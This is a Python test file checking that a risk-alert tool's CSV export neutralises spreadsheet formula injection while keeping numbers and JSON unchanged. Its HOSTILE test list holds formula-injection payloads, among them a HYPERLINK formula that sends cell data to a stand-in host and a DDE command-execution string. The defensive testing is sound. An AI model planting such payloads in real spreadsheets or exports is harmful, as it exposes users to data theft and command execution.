"""No export cell is a live formula: text a spreadsheet would run gets a quote in front, numbers stay numbers,
through the one rule (risk.spreadsheet) in each of its shapes and through the writers that use it."""
from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from risk import spreadsheet
from risk.alerts import export as alerts

# what a spreadsheet runs: =, +, -, @, a tab or a carriage return first (and the full-width signs, decided)
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "-", "+", "=", "-12.50+cmd|x"]
HARMLESS = ["甲村", "431102001001", "[1, 2]", '{"fact": "payment"}', "", " =1+1", "a=b", "749.40", "0.05", "-12.50",
            "12", "-0", "0"]


def test_text_a_spreadsheet_would_run_gets_a_quote_in_front_and_everything_else_is_left_alone():
    assert [spreadsheet.cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [spreadsheet.cell(v) for v in HARMLESS] == HARMLESS
    for number in (-12, 3.5, None, True):
        assert spreadsheet.cell(number) is number  # not text: as it is


def test_a_column_is_neutralised_the_same_way_in_each_shape():
    values = HOSTILE + HARMLESS
    expected = [spreadsheet.cell(v) for v in values]
    assert list(spreadsheet.cells(values)) == expected
    assert list(spreadsheet.cells([*values, None, 7])) == [*expected, None, 7]
    assert spreadsheet.column(pa.array([*values, None])).to_pylist() == [*expected, None]
    plain = ["甲村", "431102001001", "[1, 2]", "749.40", "a=b"]
    assert spreadsheet.cells(plain) is plain  # nothing to change: the column as it is, not a copy


# random text, with the triggers and number-like text well represented
_texts = st.one_of(
    st.text(max_size=12),
    st.builds(lambda t, rest: t + rest, st.sampled_from(list(spreadsheet.TRIGGERS)), st.text(max_size=12)),
    st.from_regex(r"\A-?[0-9]{1,6}(\.[0-9]{1,2})?\Z"),
    st.sampled_from(HOSTILE + HARMLESS),
)


def live(value: object) -> bool:
    """Would a spreadsheet run this cell (read back as text)?"""
    return isinstance(value, str) and value != "" and value[0] in spreadsheet.TRIGGERS and not _plain_number(value)


def _plain_number(text: str) -> bool:
    import re

    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is not None


@settings(max_examples=300, deadline=None)
@given(st.lists(_texts, min_size=1, max_size=8))
def test_no_cell_of_a_column_is_a_live_formula_in_any_shape(values):
    one = [spreadsheet.cell(v) for v in values]
    assert list(spreadsheet.cells(values)) == one
    assert spreadsheet.column(pa.array(values, pa.string())).to_pylist() == one
    for before, after in zip(values, one, strict=True):
        assert not live(after)
        assert after in (before, "'" + before)  # nothing else changes: the text reads as delivered
        if _plain_number(before):
            assert after == before  # numbers stay numbers


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(_texts, _texts, st.integers(-10**9, 10**9)), min_size=1, max_size=5))
def test_the_alerts_export_has_no_live_formula_and_amounts_stay_numbers(rows):
    """`risk alerts export`'s writer, with random text where delivered text goes."""
    exported = [{"alert_id": f"a-{n}", "rule": "deceased_payment", "person_id": person, "village_code": village,
                 "severity": "high", "score": 0.5, "amount_at_risk": alerts.yuan(cents), "first_seen": "2026-01-05",
                 "status": "new", "evidence": json.dumps([{"detail": village}], ensure_ascii=False)}
                for n, (person, village, cents) in enumerate(rows)]
    back = list(csv.DictReader(io.StringIO(alerts.render([dict(r) for r in exported], "csv"))))
    assert len(back) == len(rows)
    for r, (person, village, cents) in zip(back, rows, strict=True):
        assert not any(live(v) for v in r.values())
        assert r["amount_at_risk"] == alerts.yuan(cents)  # a negative amount too: a number, no quote
        assert r["person_id"] in (person, "'" + person) and r["village_code"] in (village, "'" + village)
        assert r["evidence"].startswith("[")  # JSON untouched
    # JSON keeps the delivered text as it is: JSON is not opened in a spreadsheet
    assert [r["person_id"] for r in json.loads(alerts.render([dict(r) for r in exported], "json"))] == \
        [person for person, _, _ in rows]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_writers_quote_every_hostile_cell(value):
    buf = io.StringIO()
    w = spreadsheet.writer(buf, lineterminator="\n")
    w.writerow([value, "-3.20", 7])
    d = spreadsheet.dict_writer(buf, ["a", "b"], lineterminator="\n")
    d.writerows([{"a": value, "b": "-3.20"}])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'" + value, "-3.20", "7"], ["'" + value, "-3.20"]]


def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula():
    """csv leaves a carriage return unquoted under a "\\n" line terminator; a spreadsheet would start a new row
    there, its first cell "=1+1": such a row is written quoted."""
    for make in (lambda buf: spreadsheet.writer(buf, lineterminator="\n"),
                 lambda buf: spreadsheet.dict_writer(buf, ["a", "b"], lineterminator="\n")):
        buf = io.StringIO()
        w = make(buf)
        rows = [["甲村\r=1+1", "-3.20"], ["乙村", "4.00"]]
        w.writerows([dict(zip(["a", "b"], r, strict=True)) for r in rows] if isinstance(w, csv.DictWriter) else rows)
        text = buf.getvalue()
        read = list(csv.reader(io.StringIO(text, newline="")))  # CR, LF and CRLF end a row outside quotes
        assert read == rows and not any(c.startswith("=") for r in read for c in r)
